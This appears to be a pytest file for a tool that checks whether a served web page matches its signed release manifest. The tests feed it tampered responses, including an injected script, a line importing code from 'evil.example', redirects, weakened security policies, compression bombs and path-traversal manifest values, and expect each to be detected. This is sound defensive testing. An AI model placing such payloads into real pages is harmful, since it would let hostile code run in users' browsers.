# SPDX-License-Identifier: Apache-2.0
"""A served page that is not the released one is found, whatever it was that was changed, and for whom."""

import asyncio
import dataclasses
import gzip
import shutil
import ssl
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import brotli
import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from customer.tests.http.test_listen import certify
from customer.tests.lines import serve
from customer.tests.page.hostile_server import CONTENT, NAME, SCRIPT, STYLE, WORKER, Answered, Release, served
from sealroom_customer import __version__
from sealroom_customer.http.listen import Listening
from sealroom_customer.page.comparing import Expected
from sealroom_customer.page.fetching import Answer
from sealroom_customer.page.files import STATIC
from sealroom_customer.page.manifest import ManifestFile, ManifestInvalid, read_manifest, sign_manifest
from sealroom_customer.page.policy import FIXED_HEADERS, content_security_policy
from sealroom_customer.page.verifying import Address, Report, Trust, Verdict, verify

OPERATOR = "wss://rtc.example"


@pytest.fixture
def release(tmp_path: Path) -> Release:
    return Release(tmp_path / "static").build()


async def verified(
    release: Release,
    change: Callable[[Answered], Answered] = lambda answer: answer,
    *,
    trust: Trust | None = None,
    connect: tuple[str, ...] | None = None,
    listening: Listening | None = None,
    context: ssl.SSLContext | None = None,
    path: str = "/",
) -> Report:
    trust = trust or Trust((release.public,), release.version)
    async with serve(served(release, change, (OPERATOR,)), listening) as port:
        scheme = "http" if listening is None else "https"
        parts = urlsplit(f"{scheme}://127.0.0.1:{port}{path}")
        return await asyncio.to_thread(verify, Address(parts), context, trust, Expected(parts, connect), 1)


def codes(report: Report) -> dict[str, set[str]]:
    """Every code that was told, by path; what is about the release as a whole by ''."""
    found = {file.path: {one.code.value for one in file.findings} for file in report.files}
    found[""] = {one.code.value for one in report.findings}
    return {path: told for path, told in found.items() if told}


async def test_a_release_that_is_served_as_it_is_holds(release: Release) -> None:
    report = await verified(release)
    assert codes(report) == {}
    assert (report.verdict, report.version, report.signer) == (Verdict.HOLDS, "1.2.3", str(release.public))
    assert {file.path: file.answers for file in report.files} == {
        "/": 6, "/index.html": 6, SCRIPT: 12, WORKER: 12, STYLE: 6
    }  # fmt: skip


def where(change: Callable[[Answered], Answered], **conditions: str) -> Callable[[Answered], Answered]:
    """Changes only what fits: `path` and `query` as a whole, other conditions as a part of what was asked."""

    def changed(answer: Answered) -> Answered:
        for name, value in conditions.items():
            if name in ("path", "query"):
                fits = getattr(answer, name) == value
            else:
                fits = value in answer.asked[name.replace("_", "-")]
            if not fits:
                return answer
        return change(answer)

    return changed


def flip(answer: Answered) -> Answered:
    """One byte of the content, in whatever encoding it was about to be sent."""
    encoding = dict(answer.headers).get("content-encoding")
    body = answer.body
    body = (
        gzip.decompress(body) if encoding == "gzip" else brotli.decompress(body) if encoding == "br" else body
    )
    body = body[:-1] + bytes([body[-1] ^ 1])
    if encoding is not None:
        body = gzip.compress(body) if encoding == "gzip" else brotli.compress(body)
    return answer.with_body(body, encoding)


def plainly(text: str) -> Callable[[Answered], Answered]:
    return lambda answer: answer.with_body(text.encode())


def weaker(change: Callable[[str], str]) -> Callable[[Answered], Answered]:
    return lambda answer: answer.with_header("content-security-policy", change(answer.policy))


def header_set(name: str, *values: str) -> Callable[[Answered], Answered]:
    return lambda answer: answer.with_header(name, *values)


def status(number: int, location: str | None = None) -> Callable[[Answered], Answered]:
    def changed(answer: Answered) -> Answered:
        answer = dataclasses.replace(answer, status=number)
        return answer if location is None else answer.with_header("location", location)

    return changed


GZIP_BOMB, BROTLI_BOMB = gzip.compress(bytes(10**7)), brotli.compress(bytes(10**7), quality=1)
AS_GZIP, AS_BROTLI = gzip.compress(CONTENT[SCRIPT].encode()), brotli.compress(CONTENT[SCRIPT].encode())
EVERYWHERE = ("/", "/index.html", SCRIPT, WORKER, STYLE)
ONE_MORE = CONTENT["/index.html"] + '<script src="/assets/extra-AAAAAAAA.js"></script>'


@pytest.mark.parametrize(
    ("change", "found"),
    [
        pytest.param(where(flip, path=SCRIPT), {SCRIPT: "content_differs"}, id="one byte of one file"),
        pytest.param(
            where(flip, path=SCRIPT, accept_encoding="br"), {SCRIPT: "content_differs"}, id="only as brotli"
        ),
        pytest.param(
            where(flip, path=SCRIPT, accept_encoding="identity"),
            {SCRIPT: "content_differs"},
            id="only without an encoding",
        ),
        pytest.param(
            where(flip, path=WORKER, sec_fetch_dest="worker"),
            {WORKER: "content_differs"},
            id="only as a worker",
        ),
        pytest.param(
            where(flip, path=SCRIPT, user_agent="iPhone"), {SCRIPT: "content_differs"}, id="only for one browser"
        ),
        pytest.param(where(flip, path="/"), {"/": "content_differs"}, id="only at /"),
        pytest.param(
            where(plainly(ONE_MORE), path="/"), {"/": "content_differs reference_unknown"}, id="a script more"
        ),
        pytest.param(
            where(plainly(CONTENT["/index.html"] + "<script>steal()</script>"), path="/"),
            {"/": "content_differs script_inline"},
            id="a script within",
        ),
        pytest.param(
            where(plainly(CONTENT[SCRIPT] + 'import("https://evil.example/a.js")'), path=SCRIPT),
            {SCRIPT: "content_differs reference_unknown"},
            id="a script that loads another",
        ),
        pytest.param(where(status(404), path=STYLE), {STYLE: "file_missing"}, id="a file missing"),
        pytest.param(where(status(500), path=STYLE), {STYLE: "status_unexpected"}, id="a file that fails"),
        pytest.param(
            where(status(302, "https://evil.example/"), path="/"), {"/": "redirected"}, id="sent elsewhere"
        ),
        pytest.param(
            weaker(lambda policy: policy.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
            dict.fromkeys(EVERYWHERE, "policy_differs"),
            id="scripts within allowed",
        ),
        pytest.param(
            where(weaker(lambda policy: policy.replace("; require-trusted-types-for 'script'", "")), path="/"),
            {"/": "policy_differs"},
            id="a directive less",
        ),
        pytest.param(
            where(weaker(lambda policy: policy.replace(OPERATOR, "*")), path="/"),
            {"/": "policy_differs"},
            id="connections anywhere",
        ),
        pytest.param(
            where(weaker(lambda policy: policy.replace(OPERATOR, "https://evil.example")), path="/"),
            {"/": "policy_differs"},
            id="connections that are no lines",
        ),
        pytest.param(
            where(weaker(lambda policy: policy.replace(OPERATOR, "ws://evil.example")), path="/"),
            {"/": "policy_differs"},
            id="connections in clear",
        ),
        pytest.param(
            where(weaker(lambda policy: policy.replace(OPERATOR, "wss://*.example")), path="/"),
            {"/": "policy_differs"},
            id="connections to anybody of one name",
        ),
        pytest.param(
            where(weaker(lambda policy: "script-src *; " + policy), path="/"),
            {"/": "policy_differs"},
            id="a directive twice, of which the first counts",
        ),
        pytest.param(
            where(header_set("content-security-policy"), path=WORKER),
            {WORKER: "policy_differs"},
            id="no policy for the worker",
        ),
        pytest.param(
            where(header_set("x-content-type-options"), path="/"), {"/": "header_differs"}, id="a header less"
        ),
        pytest.param(
            where(header_set("link", "</x.js>; rel=modulepreload"), path="/"),
            {"/": "header_unexpected"},
            id="a header that loads",
        ),
        pytest.param(
            where(header_set("content-type", "text/html; charset=utf-8"), path=SCRIPT),
            {SCRIPT: "type_differs"},
            id="another type",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(b"x", "zstd"), path=STYLE, accept_encoding="zstd"),
            {STYLE: "encoding_unexpected"},
            id="an encoding that we cannot look into",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(AS_GZIP[:-9], "gzip"), path=SCRIPT, accept_encoding="gzip"),
            {SCRIPT: "encoding_broken"},
            id="gzip cut short",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(AS_BROTLI[:-1], "br"), path=SCRIPT, accept_encoding="br"),
            {SCRIPT: "encoding_broken"},
            id="brotli cut short",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(AS_GZIP, "gzip"), path=SCRIPT, accept_encoding="identity"),
            {SCRIPT: "encoding_unexpected"},
            id="an encoding that was not asked for",
        ),
        pytest.param(
            where(
                lambda answer: answer.with_body(AS_GZIP + gzip.compress(b"!"), "gzip"),
                path=SCRIPT,
                accept_encoding="gzip",
            ),
            {SCRIPT: "encoding_broken"},
            id="content behind the content",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(GZIP_BOMB, "gzip"), path=SCRIPT, accept_encoding="gzip"),
            {SCRIPT: "too_large"},
            id="a bomb of gzip",
        ),
        pytest.param(
            where(lambda answer: answer.with_body(BROTLI_BOMB, "br"), path=SCRIPT, accept_encoding="br"),
            {SCRIPT: "too_large"},
            id="a bomb of brotli",
        ),
        pytest.param(where(plainly("x" * 10**6), path=SCRIPT), {SCRIPT: "too_large"}, id="far more content"),
        pytest.param(where(status(404), path="/manifest.json"), {"": "manifest_missing"}, id="no manifest"),
        pytest.param(
            where(lambda answer: answer.with_body(answer.body + b" "), path="/manifest.json"),
            {"": "manifest_invalid"},
            id="a manifest written otherwise",
        ),
        pytest.param(
            where(flip, path="/manifest.json", user_agent="Firefox"),
            {"": "manifest_differs"},
            id="another manifest for some",
        ),
        pytest.param(
            where(plainly("sealroom-page/v1\n"), path="/manifest.json.note"), {"": "signer_unknown"}, id="no note"
        ),
        pytest.param(
            where(status(404), path="/manifest.json.note"), {"": "unsigned"}, id="no signature"
        ),
    ],
)  # fmt: skip
async def test_what_was_changed_is_found_by_name(
    release: Release, change: Callable[[Answered], Answered], found: dict[str, str]
) -> None:
    report = await verified(release, change)
    told = codes(report)
    for path, wanted in found.items():
        assert set(wanted.split()) <= told.get(path, set()), told
    assert set(told) == set(found)
    unsigned = set(found.values()) <= {"unsigned", "signer_unknown"}
    assert report.verdict is (Verdict.NOT_VOUCHED_FOR if unsigned else Verdict.DIFFERS)


async def test_it_is_said_to_whom_a_changed_file_was_given(release: Release) -> None:
    report = await verified(release, where(flip, path=SCRIPT, user_agent="Firefox"))
    (finding,) = next(file.findings for file in report.files if file.path == SCRIPT)
    assert len(finding.to) == 2
    assert all(one.startswith("Firefox, ") for one in finding.to)


async def test_the_address_that_people_open_is_asked_for_as_it_is(release: Release) -> None:
    change = where(flip, path="/", query="room=board")
    assert codes(await verified(release, change)) == {}
    assert codes(await verified(release, change, path="/?room=board")) == {
        "/?room=board": {"content_differs"}
    }
    bare = where(flip, path="/", query="")
    assert codes(await verified(release, bare, path="/?room=board")) == {"/": {"content_differs"}}


async def test_a_manifest_counts_only_with_a_signature_over_it(release: Release) -> None:
    stranger = sign_manifest(release.manifest.read_bytes(), NAME, Ed25519PrivateKey.generate())
    own = release.note.read_bytes()
    release.note.write_bytes(stranger)
    report = await verified(release)
    assert (codes(report), report.verdict) == ({"": {"signer_unknown"}}, Verdict.NOT_VOUCHED_FOR)
    forged = bytearray(own)
    forged[-20] = ord("B" if forged[-20] == ord("A") else "A")
    release.note.write_bytes(bytes(forged))
    report = await verified(release)
    assert (codes(report), report.verdict) == ({"": {"signature_invalid"}}, Verdict.DIFFERS)
    # A page of the operator's liking, with a manifest that fits it, under the note of the true one.
    release.build({**CONTENT, SCRIPT: "steal()"})
    release.note.write_bytes(own)
    report = await verified(release)
    assert (codes(report), report.verdict) == ({"": {"signature_invalid"}}, Verdict.DIFFERS)


async def test_a_release_without_the_signature_that_was_asked_for_differs(release: Release) -> None:
    asked = Trust((release.public,), release.version, demanded=True)
    assert (await verified(release, trust=asked)).verdict is Verdict.HOLDS
    for change in (plainly("sealroom-page/v1\n"), status(404)):
        report = await verified(release, where(change, path="/manifest.json.note"), trust=asked)
        assert report.verdict is Verdict.DIFFERS


async def test_an_old_release_with_its_good_signature_is_found(release: Release) -> None:
    report = await verified(release, trust=Trust((release.public,), "1.2.4"))
    assert codes(report) == {"": {"version_unexpected"}}
    assert report.verdict is Verdict.DIFFERS
    assert (await verified(release, trust=Trust((release.public,), None))).verdict is Verdict.HOLDS


async def test_a_release_that_refers_to_more_than_it_lists_is_found(release: Release) -> None:
    release.build({**CONTENT, "/index.html": ONE_MORE})
    assert codes(await verified(release)) == {
        "/": {"reference_unknown"}, "/index.html": {"reference_unknown"}
    }  # fmt: skip


async def test_a_build_of_ones_own_vouches_as_a_key_does(release: Release) -> None:
    release.note.unlink()
    built = release.manifest.read_bytes()
    report = await verified(release, trust=Trust((), None, built))
    assert (codes(report), report.verdict) == ({}, Verdict.HOLDS)
    release.build({**CONTENT, SCRIPT: "steal()"})
    report = await verified(release, trust=Trust((), None, built))
    assert codes(report) == {"": {"manifest_differs"}}


async def test_the_origins_that_the_policy_may_name_can_be_given(release: Release) -> None:
    assert codes(await verified(release, connect=(OPERATOR,))) == {}
    report = await verified(release, connect=("wss://other.example",))
    assert codes(report) == {path: {"policy_differs"} for path in EVERYWHERE}


async def test_a_certificate_that_is_not_trusted_is_an_error(release: Release, tmp_path: Path) -> None:
    certificate, key = certify(tmp_path)
    listening = Listening(certificate=certificate, key=key, public_url="https://localhost")
    report = await verified(release, listening=listening, context=ssl.create_default_context())
    assert codes(report) == {"": {"tls_failed"}}
    trusting = ssl.create_default_context(cafile=str(certificate))
    assert (await verified(release, listening=listening, context=trusting)).verdict is Verdict.HOLDS


async def test_a_server_that_is_not_there_is_an_error(release: Release) -> None:
    parts = urlsplit("http://127.0.0.1:9/")
    trust = Trust((release.public,), None)
    report = await asyncio.to_thread(verify, Address(parts), None, trust, Expected(parts, None), 1)
    assert (codes(report), report.verdict) == ({"": {"unreachable"}}, Verdict.DIFFERS)


@pytest.mark.parametrize(
    ("origin", "told", "fine"),
    [
        ("https://call.example", "max-age=31536000", True),
        ("https://call.example", "max-age=31536000; includeSubDomains", True),
        ("https://call.example", "max-age=0", False),
        ("https://call.example", None, False),
        ("https://192.0.2.7:8443", None, True),
        ("https://laptop.local:8443", None, True),
        ("http://localhost:8080", None, True),
    ],
)
def test_browsers_are_told_to_keep_to_https_where_they_can_be(
    origin: str, told: str | None, fine: bool
) -> None:
    headers = [
        *FIXED_HEADERS,
        ("content-type", "text/css"),
        ("content-security-policy", content_security_policy(())),
    ]
    if told is not None:
        headers.append(("strict-transport-security", told))
    empty = ManifestFile(
        "/a.css", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", 0, "text/css"
    )
    found = list(Expected(urlsplit(origin), None).compare(Answer(tuple(headers), b""), empty))
    assert found == ([] if fine else [("header_differs", "strict-transport-security")])


@pytest.mark.parametrize("change", [
    {"version": "1 2"}, {"version": "1\n"}, {"format": "sealroom-page/2"}, {"files": []}, {"more": 1},
    {"path": "/../a.js"}, {"path": "//a.js"}, {"path": "/a?b"}, {"path": "/a\n"}, {"path": "a.js"}, {"path": "/z.js"},
    {"sha256": "A" * 64}, {"size": -1}, {"size": 2**40},
])  # fmt: skip
def test_a_manifest_that_is_none_is_refused(release: Release, change: dict[str, object]) -> None:
    document = msgspec.json.decode(release.manifest.read_bytes())
    for name, value in change.items():
        (document if name in ("version", "format", "files", "more") else document["files"][0])[name] = value
    with pytest.raises(ManifestInvalid):
        read_manifest(msgspec.json.encode(document) + b"\n")


@pytest.mark.skipif(not (STATIC / "manifest.json").is_file(), reason="the page is not built: `make web`")
async def test_the_page_that_is_built_here_holds_once_it_is_signed(tmp_path: Path) -> None:
    shutil.copytree(STATIC, tmp_path / "static", ignore=shutil.ignore_patterns("*.note"))
    release = Release(tmp_path / "static", __version__)
    trust = Trust((release.public,), __version__)
    report = await verified(release, trust=trust)
    assert (codes(report), report.verdict) == ({"": {"unsigned"}}, Verdict.NOT_VOUCHED_FOR)
    release.note.write_bytes(sign_manifest(release.manifest.read_bytes(), NAME, release.key))
    report = await verified(release, trust=trust)
    assert (codes(report), report.verdict) == ({}, Verdict.HOLDS)
    assert len(report.files) >= 4
